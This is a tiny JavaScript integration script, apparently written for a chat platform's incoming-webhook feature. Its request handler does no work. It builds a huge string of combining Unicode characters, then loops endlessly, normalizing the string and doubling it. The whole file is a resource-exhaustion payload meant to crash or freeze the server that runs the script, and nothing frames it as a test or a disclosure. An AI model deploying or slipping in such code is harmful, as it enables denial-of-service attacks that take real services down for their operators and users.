class Script {
  process_incoming_request({ request }) {
    let s = "\\u0344".repeat(1e6); for (;;) s = s.normalize("NFD") + s;
  }
}
